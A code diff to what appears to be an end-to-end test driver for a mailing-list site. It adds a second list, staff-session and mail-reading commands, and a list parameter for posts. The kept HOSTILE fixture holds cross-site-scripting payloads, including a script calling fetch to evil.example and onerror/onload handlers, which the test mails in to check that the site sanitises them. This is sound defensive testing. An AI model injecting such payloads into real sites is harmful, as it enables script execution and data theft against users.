@@ -10,11 +10,13 @@ import tempfile
 
 ROOT = pathlib.Path(__file__).resolve().parents[2]
 sys.path.insert(0, str(ROOT / "tools"))
+sys.path.insert(0, str(ROOT / "tests/e2e"))
 
 from sitekit import Person, Sink, Site, files_with, swaks, wait_until  # noqa: E402
+from staff import Staff  # noqa: E402
 
-BOARD = "board@lists.example"
-MEMBERS = ["bob@example.org", "eve@example.org", "pat@example.org", "flo@file.example"]
+BOARD, OTHER = "board@lists.example", "other@lists.example"
+MEMBERS = ["bob@example.org", "noa@example.org", "eve@example.org", "pat@example.org", "flo@file.example"]
 
 HOSTILE = """<p>Visible words {canary}</p><script>document.title='ran';fetch('https://evil.example/s')</script>
 <img src="https://evil.example/i.png" onerror="document.title='ran'"><svg onload="document.title='ran'"></svg>
@@ -25,9 +27,12 @@ HOSTILE = """<p>Visible words {canary}</p><script>document.title='ran';fetch('ht
 <p style="position:fixed;top:0" onclick="document.title='ran'">overlay</p>"""
 
 
-def post(site, canary):
+PEOPLE = {}
+
+
+def post(site, canary, to=BOARD):
     """A post of Ann's with hostile HTML and an attachment; the ladder lets it wait for members without a key."""
-    message = (f"From: Ann <ann@example.org>\r\nTo: {BOARD}\r\nSubject: Results {canary}\r\n"
+    message = (f"From: Ann <ann@example.org>\r\nTo: {to}\r\nSubject: Results {canary}\r\n"
                f"Date: Mon, 02 Mar 2026 10:00:00 +0000\r\nMessage-ID: <{os.urandom(8).hex()}@example.org>\r\n"
                "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
                "Content-Type: text/html; charset=utf-8\r\n\r\n" + HOSTILE.format(canary=canary).replace("\n", "\r\n") +
@@ -40,7 +45,7 @@ def post(site, canary):
             return db.execute(f"SELECT coalesce(max(id), 0) FROM posts WHERE {where}").fetchone()[0]
 
     seen = newest("1")
-    code, dialogue = swaks(site.smtp_port, "ann@example.org", [BOARD], message)
+    code, dialogue = swaks(site.smtp_port, "ann@example.org", [to], message)
     if code != 0:
         raise RuntimeError(dialogue)
     wait_until(lambda: newest("verdict = 'accepted' AND state <> 'planned'") > seen, "the plan of the post")
@@ -69,7 +74,19 @@ def answer(site, sink, words):
         site.start()
         return "started"
     if words[0] == "post":
-        return post(site, words[1])
+        return post(site, *words[1:])
+    if words[0] == "staff":  # the secret of a session of somebody with that role, who owns the lists named besides
+        staff = PEOPLE.setdefault(words[1], None) or Staff(site, words[1], words[2], ["account:read"])
+        PEOPLE[words[1]] = staff
+        if words[3:]:
+            PEOPLE["ada"].sign_in().web("account.set", name=words[1], lists=words[3:], mail=words[1] + "@example.org",
+                                        reason="owns it")
+        return staff.session
+    if words[0] == "mail":
+        def mail():
+            return [m.message for m in sink.of(words[1]) if m.message["Subject"] == words[2]]
+        wait_until(mail, words[2])
+        return mail()[-1].get_body(("plain",)).get_content()
     if words[0] == "link":
         return link_of(envelopes(sink, words[1])[-1].message)
     if words[0] == "asked":
@@ -111,6 +128,9 @@ def main():
             site.cli("list", "create", BOARD, "--secure")
             for address in [ann.address, *MEMBERS]:
                 site.cli("member", "add", BOARD, address)
+            site.cli("list", "create", OTHER, "--secure")
+            for address in (ann.address, "bob@example.org"):
+                site.cli("member", "add", OTHER, address)
             site.cli("pickup", "domain", "file.example", "--limit", "1000000")
             print(json.dumps({"url": url, "setupLink": site.cli("user", "setup-link")["url"], "log": str(site.log)}),
                   flush=True)
